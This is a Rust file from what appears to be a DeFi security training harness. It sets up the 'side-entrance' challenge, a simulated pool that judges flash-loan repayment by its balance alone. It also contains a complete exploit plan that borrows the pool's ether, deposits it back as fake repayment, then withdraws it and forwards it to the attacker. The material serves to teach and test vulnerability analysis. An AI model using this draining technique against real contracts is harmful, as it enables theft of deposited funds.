//! A pool that checks loan repayment by its balance alone, so borrowed
//! ether deposited back into the pool counts as repaid and can then be
//! withdrawn.

use std::sync::Arc;

use gauntlet_common::primitives::ether;
use gauntlet_common::subsystems::scripted::{Hook, ScriptArg, ScriptedContract};
use gauntlet_common::subsystems::side_entrance::SideEntrancePool;
use gauntlet_common::{Amount, CallData};

use crate::runner::{Exploit, ExploitView, Step};
use crate::scenario::{
    AccountRef, ActorDef, AssetRef, Assertion, CallSpec, Comparison, Expect, Quantity, Scenario,
    ScenarioError, SetupAction,
};

pub const NAME: &str = "side-entrance";

pub fn ether_in_pool() -> Amount {
    ether(1_000)
}

pub fn initial_player_balance() -> Amount {
    ether(1)
}

fn recorded(account: &AccountRef) -> Quantity {
    Quantity::Recorded {
        snapshot: "start".to_string(),
        account: account.clone(),
        asset: AssetRef::Native,
    }
}

pub fn scenario() -> Result<Scenario, ScenarioError> {
    let pool = AccountRef::subsystem("pool");
    let player = AccountRef::actor("player");
    let deployer = AccountRef::actor("deployer");

    Scenario::builder(NAME)
        .description("Flash-loaned ether deposited back into the pool counts as repayment")
        .actor(ActorDef::observer("deployer", ether_in_pool()))
        .actor(ActorDef::signer("player", initial_player_balance()))
        .deploy("pool", "deployer", Arc::new(SideEntrancePool), vec![])
        .action(SetupAction::Call {
            caller: "deployer".to_string(),
            target: pool.clone(),
            call: CallSpec::new("deposit"),
            value: ether_in_pool(),
            expect: Expect::Success,
        })
        .snapshot("start")
        .precondition(Assertion::balance_eq(pool.clone(), AssetRef::Native, ether_in_pool()))
        .precondition(Assertion::balance_eq(
            player.clone(),
            AssetRef::Native,
            initial_player_balance(),
        ))
        .postcondition(Assertion::balance_eq(pool.clone(), AssetRef::Native, Amount::zero()))
        .postcondition(Assertion::balance(
            player.clone(),
            AssetRef::Native,
            Comparison::Gt,
            recorded(&player),
        ))
        .postcondition(Assertion::Conservation {
            asset: AssetRef::Native,
            accounts: vec![pool.clone(), player.clone(), deployer.clone()],
            expected: Quantity::Sum(vec![recorded(&pool), recorded(&player), recorded(&deployer)]),
        })
        .build()
}

/// Attacker contract: borrow everything, deposit it back, withdraw and
/// forward the proceeds to the player.
pub struct SideEntranceExploit;

impl Exploit for SideEntranceExploit {
    fn plan(&self, view: &ExploitView) -> anyhow::Result<Vec<Step>> {
        let pool = view.subsystem("pool")?;
        let attacker = view.predict_address("player", 0)?;

        let contract = ScriptedContract::new()
            .on(
                "attack",
                Hook::new()
                    .call(pool, "flash_loan", vec![ScriptArg::Incoming(0)])
                    .call(pool, "withdraw", vec![])
                    .call_with_value(ScriptArg::Owner, "receive", vec![], ScriptArg::SelfBalance),
            )
            .on(
                "execute",
                Hook::new().call_with_value(
                    ScriptArg::Caller,
                    "deposit",
                    vec![],
                    ScriptArg::CallValue,
                ),
            )
            .on("receive", Hook::new());

        Ok(vec![
            Step::deploy("player", Arc::new(contract), vec![]),
            Step::call(
                "player",
                attacker,
                CallData::new("attack").arg(ether_in_pool()),
            ),
        ])
    }

    fn describe(&self) -> String {
        "repay the loan with a deposit".to_string()
    }
}

pub fn exploit() -> Arc<dyn Exploit> {
    Arc::new(SideEntranceExploit)
}
